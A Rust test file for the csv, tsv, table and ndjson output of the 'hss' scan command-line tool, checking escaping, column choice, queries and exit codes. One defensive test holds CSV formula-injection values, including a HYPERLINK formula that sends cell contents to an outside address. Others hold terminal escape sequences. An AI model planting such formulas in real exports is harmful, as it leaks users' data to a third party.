//! Tests of the output formats.

use hss_emulator::Fault;
use serde_json::{Value, json};

use crate::canned::{self, Canned};
use crate::program::{Ran, TASK, follow_up, hss, hss_at, newest_task, run, run_with_input};

fn hosts(hosts: &Value, arguments: &[&str]) -> Ran {
    let total = hosts.as_array().unwrap().len();
    let server = Canned::new([canned::json(200, &json!({"total_num": total, "data_list": hosts}).to_string())]);
    run(hss_at(&server.url, &["scan", "hosts", TASK, "-q"]).args(arguments))
}

fn names(names: &[&str]) -> Value {
    names.iter().map(|name| json!({"host_name": name})).collect()
}

#[test]
fn csv_escapes_formulas_unless_raw() {
    let reason = r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#;
    let hostile = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1"];
    let mut rows = names(&hostile);
    rows.as_array_mut().unwrap().push(json!({"failed_reasons": [{"failed_reason": reason}]}));
    let csv = hosts(&rows, &["-o", "csv", "--columns", "host_name,causes"]);
    assert_eq!(
        csv.printed(),
        "host_name,causes\r\n\
         '=1+1,\r\n'+1+1,\r\n'-1+1,\r\n'@SUM(1),\r\n\\u{9}=1,\r\n\\u{d}=1,\r\n'＝1+1,\r\n\
         ,\"'=HYPERLINK(\"\"http://192.0.2.9/\"\"&A1,\"\"ok\"\")\"\r\n"
    );
    let tsv = hosts(&rows, &["-o", "tsv", "--columns", "host_name"]);
    assert!(tsv.printed().starts_with("host_name\n'=1+1\n'+1+1\n"), "{}", tsv.stdout);
    let raw = hosts(&rows, &["-o", "csv", "--raw-csv", "--columns", "host_name,causes"]);
    let mut reader = csv::Reader::from_reader(raw.printed().as_bytes());
    let cells: Vec<_> = reader.records().map(|record| record.unwrap()).collect();
    assert_eq!(cells.iter().take(7).map(|record| &record[0]).collect::<Vec<_>>(), hostile);
    assert_eq!(&cells[7][1], reason);
    assert_eq!(hosts(&rows, &["-o", "json"]).json()["data_list"], rows, "JSON stays as it is");
}

#[test]
fn cells_are_safe_with_other_separators() {
    let rows = json!([
        {"host_name": "\"hides", "failed_reasons": [{"vul_type": "linux_vul", "failed_reason": "=1+1"}]},
        {"host_name": "\u{2003}=1", "failed_reasons": [{"failed_reason": "a"}, {"failed_reason": "=1"}]},
        {"host_name": "a,b;"},
    ]);
    let columns = ["--columns", "host_name,causes", "-o"];
    assert_eq!(
        hosts(&rows, &[&columns[..], &["tsv"]].concat()).printed(),
        "host_name\tcauses\n'\"hides\tlinux_vul: '=1+1\n\u{2003}'=1\ta; '=1\na,b;'\t\n"
    );
    assert_eq!(
        hosts(&rows, &[&columns[..], &["csv"]].concat()).printed(),
        "host_name,causes\r\n\"'\"\"hides\",linux_vul: '=1+1\r\n\u{2003}'=1,a; '=1\r\n\"a,b;'\",\r\n"
    );
}

#[test]
fn a_sparse_grid_is_refused() {
    // 3,000 rows, each with a different field: 9,000,000 cells in csv.
    let objects: Vec<Value> = (0..3000).map(|number| json!({format!("f{number}"): 1})).collect();
    let body = json!({"total_num": 3000, "data_list": objects}).to_string();
    let api = |arguments: &[&str]| {
        let server = Canned::new([canned::json(200, &body)]);
        run(hss_at(&server.url, &["api", "ListVulScanTask", "--query", "data_list"]).args(arguments))
    };
    for format in ["csv", "tsv", "table"] {
        let ran = api(&["-o", format]);
        assert!(ran.failed_with(1).contains("too many cells: 3000 rows with 3000 different fields"), "{ran:?}");
        assert_eq!(api(&["-o", format, "--columns", "f7"]).printed().lines().count(), 3001);
    }
    assert_eq!(api(&["-o", "ndjson"]).printed().lines().count(), 3000);
    let unknown = api(&["-o", "csv", "--columns", "nope"]);
    assert!(unknown.failed_with(1).contains("f48, f49 and 2950 more"), "{}", unknown.stderr);
    // The same number of rows with the same fields is allowed.
    let same: Vec<Value> = (0..3000).map(|number| json!({"a": number})).collect();
    let server = Canned::new([canned::json(200, &json!({"data_list": same}).to_string())]);
    let ran = run(&mut hss_at(&server.url, &["api", "ListVulScanTask", "--query", "data_list", "-o", "csv"]));
    assert_eq!(ran.printed().lines().count(), 3001);
}

#[test]
fn csv_round_trips() {
    let hostile = ["a,b", "say \"hi\"", " lead", "two\nlines", "", "生产-01", "'=1"];
    let ran = hosts(&names(&hostile), &["-o", "csv", "--raw-csv", "--columns", "host_name,scan_status"]);
    let mut reader = csv::Reader::from_reader(ran.printed().as_bytes());
    let cells: Vec<_> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
    assert_eq!(cells, hostile);
}

#[test]
fn ndjson_keeps_values_and_escapes_control_characters() {
    let hostile = ["\u{1b}[2J", "\u{9b}31m\u{7f}\u{202e}x", "a\nb\rc", "生产\u{1f600}"];
    let ran = hosts(&names(&hostile), &["-o", "ndjson"]);
    assert!(
        ran.printed().chars().all(|character| character == '\n' || !character.is_control() && character != '\u{202e}')
    );
    let read: Vec<_> =
        ran.stdout.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["host_name"].clone()).collect();
    assert_eq!(read, hostile);
}

#[test]
fn tables_align_any_content() {
    let long = "x".repeat(128);
    let rows = json!([
        {"host_name": "生产-数据库-01", "scan_status": "failed", "failed_reasons": [{"failed_reason": "磁盘空间不足"}]},
        {"host_name": "ecs-😀", "scan_status": "failed"},
        {"host_name": "e\u{301}", "scan_status": "success"},
        {"host_name": long, "scan_status": "success"},
        {"host_name": "web-1", "scan_status": "failed"},
    ]);
    let ran = hosts(&rows, &["--columns", "host_name,scan_status,causes"]);
    let pad = |name: &str, width: usize| format!("{name}{}", " ".repeat(130 - width));
    assert_eq!(
        ran.printed(),
        format!(
            "{}STATUS   CAUSES\n{}failed   磁盘空间不足\n{}failed   -\n{}success  -\n{}success  -\n{}failed   -\n",
            pad("HOST NAME", 9),
            pad("生产-数据库-01", 14),
            pad("ecs-😀", 6),
            pad("e\u{301}", 1),
            pad(&long, 128),
            pad("web-1", 5),
        )
    );
}

#[test]
fn a_query_applies_to_the_whole_document_in_every_format() {
    let query =
        |query: &str, format: &str| run(&mut hss(&["--demo", "scan", "hosts", TASK, "-o", format, "--query", query]));
    for (expression, format, expected) in [
        ("total_num", "json", "3\n"),
        ("total_num", "table", "3\n"),
        ("length(data_list)", "ndjson", "3\n"),
        ("data_list[?scan_status=='failed'].host_name", "json", "[\n  \"ecs-ubuntu-abc123\"\n]\n"),
        ("data_list[?scan_status=='failed'].host_name", "ndjson", "\"ecs-ubuntu-abc123\"\n"),
        ("data_list[?scan_status=='failed'].host_name", "table", "ecs-ubuntu-abc123\n"),
        ("data_list[?scan_status=='failed'].host_name", "csv", "ecs-ubuntu-abc123\r\n"),
        (
            "data_list[].[host_name, scan_status]",
            "tsv",
            "ecs-ubuntu-abc123\tfailed\necs-build-0001\tsuccess\necs-web-0002\tsuccess\n",
        ),
        (
            "data_list[0].{b: host_name, a: failed_reasons}",
            "csv",
            "a,b\r\n\"[{\"\"failed_reason\"\":\"\"this_is_failed_reason\"\",\"\"vul_type\"\":\"\"linux_vul\"\"}]\",ecs-ubuntu-abc123\r\n",
        ),
        ("data_list[].{s: scan_status}", "table", "s\nfailed\nsuccess\nsuccess\n"),
        ("nothing", "json", "null\n"),
        ("nothing", "table", "-\n"),
        ("data_list[?host_name=='x']", "table", ""),
    ] {
        let ran = query(expression, format);
        assert_eq!(ran.printed(), expected, "{expression} {format}");
        let note = "the query matched nothing; it applies to the whole JSON document (for rows: data_list[])\n";
        assert_eq!(ran.stderr, if expression == "nothing" { note } else { "" }, "{expression} {format}");
    }
    assert!(query("data_list[?", "json").failed_with(2).contains("invalid query: expected"));
    assert!(query("length(total_num)", "json").failed_with(1).contains("invalid query"), "an answer shows it");
    assert!(query(&"[".repeat(5000), "json").failed_with(2).contains("expected at most 4096 bytes"));
}

#[test]
fn tsv_writes_one_empty_cell_as_an_empty_line() {
    let rows =
        json!([{"host_name": "a", "public_ip": "192.0.2.1"}, {"host_name": "b"}, {"host_name": "c", "public_ip": ""}]);
    let tsv = |arguments: &[&str]| hosts(&rows, &[&["-o", "tsv"], arguments].concat()).printed().to_owned();
    assert_eq!(tsv(&["--columns", "public_ip"]), "public_ip\n192.0.2.1\n\n\n");
    assert_eq!(tsv(&["--columns", "public_ip", "--raw-csv"]), "public_ip\n192.0.2.1\n\n\n");
    assert_eq!(tsv(&["--columns", "host_name,public_ip"]), "host_name\tpublic_ip\na\t192.0.2.1\nb\t\nc\t\n");
    assert_eq!(tsv(&["--query", "data_list[1].public_ip"]), "\n");
    // In csv, an empty line is not a row.
    assert_eq!(
        hosts(&rows, &["-o", "csv", "--columns", "public_ip"]).printed(),
        "public_ip\r\n192.0.2.1\r\n\"\"\r\n\"\"\r\n"
    );
}

#[test]
fn columns_are_chosen_by_name() {
    let choose = |columns: &str, more: &[&str]| {
        run(hss(&["--demo", "scan", "hosts", TASK, "-q", "--status", "failed", "--columns", columns]).args(more))
    };
    assert_eq!(choose("scan_status,host_name", &[]).printed(), "STATUS  HOST NAME\nfailed  ecs-ubuntu-abc123\n");
    assert_eq!(choose("host_id", &["-o", "tsv"]).printed(), "host_id\nxxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx\n");
    let ran = choose("host_nam", &[]);
    assert!(ran.failed_with(2).contains("expected host_id, host_name, public_ip,"), "{}", ran.stderr);
    let queried = choose("n", &["--query", "data_list[].{n: host_name, m: public_ip}"]);
    assert_eq!(queried.printed(), "n\necs-ubuntu-abc123\n", "a query names its own");
    assert!(choose("host_name", &["-o", "json"]).failed_with(2).contains("--query"));
    let wide = run(&mut hss(&["--demo", "scan", "hosts", TASK, "-q", "--wide"]));
    assert!(wide.printed().starts_with("HOST ID "), "{}", wide.stdout);
}

#[test]
fn an_unknown_column_is_refused_before_a_request() {
    let emulator = canned::on_emulator(30, Vec::new());
    for command in [
        &["hosts", TASK][..],
        &["hosts", TASK, "--group-by", "cause"],
        &["list"],
        &["show", TASK],
        &["wait", TASK],
        &["start", "--all-hosts", "--wait"],
        &["rescan", TASK, "--failed", "--wait"],
    ] {
        let ran = run(hss_at(&emulator.url, &["scan"]).args(command).args(["--columns", "nope"]));
        assert!(ran.failed_with(2).contains("invalid column \"nope\" of "), "{command:?}: {}", ran.stderr);
    }
    assert_eq!(emulator.requests(), [""; 0]);
}

#[test]
fn api_writes_every_format() {
    let api = |arguments: &[&str]| run(hss(&["--demo", "api", "ListVulScanTask", "--limit", "10"]).args(arguments));
    assert!(api(&[]).printed().starts_with("{\"total_num\":12,"), "unchanged");
    assert_eq!(api(&["-o", "json"]).printed(), api(&[]).printed());
    let table = api(&["-o", "table"]);
    assert!(table.printed().starts_with("total_num  data_list\n12         [{"), "{}", table.stdout);
    for format in ["table", "csv", "tsv"] {
        assert_eq!(api(&["-o", format]).stderr, "use --query data_list for one row per item\n");
        assert_eq!(api(&["-o", format, "--query", "data_list"]).stderr, "");
        assert_eq!(api(&["-o", format, "--offset", "12"]).stderr, "", "an empty list");
    }
    // An empty body produces no output in any format.
    for format in ["table", "json", "csv", "ndjson"] {
        let server = Canned::new([canned::json(200, "")]);
        let mut command =
            hss_at(&server.url, &["api", "RecreateVulScanTask", "--task_id", TASK, "--body", "-", "-o", format]);
        let ran = run_with_input(&mut command, br#"{"range_type":"all_failed_host"}"#);
        assert_eq!((ran.printed(), ran.stderr.as_str()), ("", ""), "{format}");
    }
    assert_eq!(api(&["--query", "data_list[2].id", "-o", "tsv"]).printed(), format!("{TASK}\n"));
    assert_eq!(api(&["--query", "data_list", "-o", "ndjson"]).printed().lines().count(), 10);
    assert!(
        api(&["--query", "data_list", "-o", "csv", "--columns", "id,status"]).printed().starts_with("id,status\r\n")
    );
    assert!(api(&["--query", "data_list", "-o", "csv", "--columns", "nope"]).failed_with(1).contains("expected "));
}

#[test]
fn start_and_rescan_write_every_format() {
    let emulator = canned::on_emulator(60, Vec::new());
    let task = newest_task(&emulator.url);
    let rescan = ["scan", "rescan", &task, "--failed"];
    for (format, written) in [
        (&[][..], String::new()),
        (&["-o", "table"], format!("TASK ID  {task}\n")),
        (&["-o", "json"], format!("{{\n  \"task_id\": \"{task}\"\n}}\n")),
        (&["-o", "ndjson"], format!("{{\"task_id\":\"{task}\"}}\n")),
        (&["-o", "csv"], format!("task_id\r\n{task}\r\n")),
        (&["-o", "tsv", "--columns", "task_id"], format!("task_id\n{task}\n")),
        (&["-o", "tsv", "--query", "task_id"], format!("{task}\n")),
        (&["--query", "task_id"], format!("{task}\n")),
    ] {
        // The result is the same whether servers failed or not.
        let ran = run(hss_at(&emulator.url, &rescan).args(format));
        assert_eq!(ran.printed(), written, "{format:?}: {}", ran.stderr);
        let started = run(hss_at(&emulator.url, &["scan", "start", "--all-hosts"]).args(format));
        let shape = if format.is_empty() { format!("{task}\n") } else { written };
        let (before, after) = shape.split_once(&task).unwrap();
        let id = started.printed().strip_prefix(before).unwrap().strip_suffix(after).unwrap();
        assert!(id.len() == 32 && id.bytes().all(|byte| byte.is_ascii_hexdigit()), "{}", started.stdout);
        assert!(started.stderr.contains(&follow_up(&emulator.url, &format!("scan wait {id}"))), "{}", started.stderr);
    }
    for command in [&rescan[..], &["scan", "start", "--all-hosts"]] {
        let ran = run(hss_at(&emulator.url, command).args(["-o", "csv", "--columns", "nope"]));
        assert!(ran.failed_with(2).contains("expected task_id"), "{}", ran.stderr);
    }
}

#[test]
fn ndjson_is_streamed_and_other_formats_are_not() {
    for (format, lines) in [("ndjson", 400), ("json", 0), ("csv", 0), ("tsv", 0), ("table", 401)] {
        let fault = Fault { page: Some(3), ..canned::json(502, "<html>") };
        let emulator = canned::on_emulator(1000, vec![fault]);
        let task = newest_task(&emulator.url);
        let ran = run(&mut hss_at(&emulator.url, &["scan", "hosts", &task, "-o", format]));
        assert_eq!((ran.status, ran.stdout.lines().count()), (Some(1), lines), "{format}: {}", ran.stderr);
        assert!(ran.stderr.contains("offset 400"), "{}", ran.stderr);
    }
}

#[test]
fn causes_are_counted() {
    let demo = |arguments: &[&str]| run(hss(&["--demo", "scan", "hosts", TASK, "--group-by", "cause"]).args(arguments));
    assert_eq!(
        demo(&[]).printed(),
        "VULNERABILITY TYPE  REASON                 SERVERS\n\
         linux_vul           this_is_failed_reason  1\n"
    );
    assert_eq!((demo(&[]).stderr.as_str(), demo(&["-o", "csv"]).stderr.as_str()), ("1 cause of 1 server\n", ""));
    assert_eq!(
        demo(&["-o", "json"]).json(),
        json!([{"vul_type": "linux_vul", "failed_reason": "this_is_failed_reason", "hosts": 1}])
    );
    assert_eq!(demo(&["--fail-on", "failed"]).status, Some(10));
    demo(&["--checkpoint", "f"]).failed_with(2);
}

#[test]
fn partial_counts_of_causes_are_reported() {
    let emulator = canned::on_emulator(450, Vec::new());
    let task = newest_task(&emulator.url);
    let count = |more: &[&str]| run(hss_at(&emulator.url, &["scan", "hosts", &task, "--group-by", "cause"]).args(more));
    for format in ["json", "csv"] {
        let ran = count(&["--max", "3", "-o", format]);
        assert_eq!((ran.status, ran.stderr.as_str()), (Some(0), "only 3 of 45 servers were counted\n"));
    }
    assert!(count(&["--offset", "40"]).stderr.ends_with("\nonly 5 of 45 servers were counted\n"));
    for more in [&[][..], &["--max", "45"]] {
        let ran = count(more);
        let causes = ran.stdout.lines().count() - 1;
        let note = "of 45 servers; a server with several causes is counted under each of them";
        assert_eq!(ran.stderr, format!("{causes} causes {note}\n"));
    }
}

#[test]
fn options_that_can_never_match_are_refused() {
    let emulator = canned::on_emulator(30, Vec::new());
    for (arguments, said) in [
        (
            &["--status", "success", "--fail-on", "failed"][..],
            "--fail-on failed=1 can never match with --status success",
        ),
        (
            &["--status", "scanning", "--fail-on", "failed=2"],
            "--fail-on failed=2 can never match with --status scanning",
        ),
        (&["--max", "5", "--fail-on", "failed=10"], "--fail-on failed=10 can never match with --max 5"),
        (&["--max", "5", "--fail-on", "failed=6", "--group-by", "cause"], "can never match with --max 5"),
        (&["--group-by", "cause", "--status", "success"], "--group-by cause cannot be used with --status success"),
        (&["--group-by", "cause", "--status", "scanning"], "--group-by cause cannot be used with --status scanning"),
    ] {
        let ran = run(hss_at(&emulator.url, &["scan", "hosts", TASK]).args(arguments));
        assert!(ran.failed_with(2).contains(said), "{}", ran.stderr);
    }
    assert_eq!(emulator.requests(), [""; 0]);
}

#[test]
fn fail_on_ends_with_status_10() {
    for (arguments, status) in [
        (&["--fail-on", "failed"][..], 10),
        (&["--fail-on=failed=1"], 10),
        (&["--fail-on", "failed=2"], 0),
        (&["--fail-on", "failed", "--status", "failed"], 10),
        (&["--fail-on", "failed", "--max", "1"], 10),
    ] {
        let ran = run(hss(&["--demo", "scan", "hosts", TASK]).args(arguments));
        assert_eq!(ran.status, Some(status), "{arguments:?}: {}", ran.stderr);
        assert!(ran.stdout.starts_with("HOST NAME"), "the data is still written");
        assert_eq!(
            status == 10,
            ran.stderr.ends_with("error: the scan failed on 1 server; the limit of --fail-on is 1\n")
        );
    }
    assert_eq!(run(&mut hss(&["--demo", "scan", "show", TASK, "--fail-on", "failed"])).status, Some(10));
    for refused in ["", "success", "failed=", "failed=0", "failed=-1", "failed=x"] {
        run(&mut hss(&["--demo", "scan", "show", TASK, "--fail-on", refused])).failed_with(2);
    }
}

#[test]
fn a_result_without_columns_has_none_to_choose() {
    let arguments = ["--demo", "scan", "hosts", TASK, "--query", "length(data_list)", "-o", "csv", "--columns", "nope"];
    let ran = run(&mut hss(&arguments));
    assert!(ran.failed_with(1).ends_with("the result has no columns\n"), "{}", ran.stderr);
}

#[test]
fn an_error_of_the_temporary_file_is_reported() {
    // Once escaped, this is more than is kept in memory.
    let page = json!({"total_num": 1, "data_list": [{"host_name": "\u{7f}".repeat(2 * 1024 * 1024)}]}).to_string();
    for format in ["json", "csv", "tsv", "table"] {
        let server = Canned::new([canned::json(200, &page)]);
        let list = ["scan", "hosts", TASK, "-o", format];
        let ran = run(hss_at(&server.url, &list).env("TMPDIR", "/none"));
        let said = "error: cannot store rows in a temporary file (TMPDIR /none): ";
        assert!(ran.failed_with(1).starts_with(said), "{format}: {}", ran.stderr);
    }
}

#[test]
fn examples_that_print_ids_for_a_shell_print_nothing_else() {
    let mut examples = 0;
    for command in ["hosts", "list", "show", "start", "wait", "rescan"] {
        let help = run(&mut hss(&["scan", command, "--help"]));
        for line in help.printed().lines().filter(|line| line.starts_with("  hss ") && line.contains("-o tsv")) {
            // A list that another command reads is the part before the pipe.
            let first = line.split(" | ").next().unwrap().replace('\'', "").replace("TASK_ID", TASK);
            let mut words = first.split_whitespace();
            assert_eq!(words.next(), Some("hss"));
            let ran = run(hss(&["--demo"]).args(words));
            let mut ids = ran.printed().lines().peekable();
            assert!(ids.peek().is_some(), "{line}");
            assert!(ids.all(|id| id.len() >= 32 && !id.contains("id")), "{line}: {}", ran.stdout);
            examples += 1;
        }
    }
    assert_eq!(examples, 2);
}
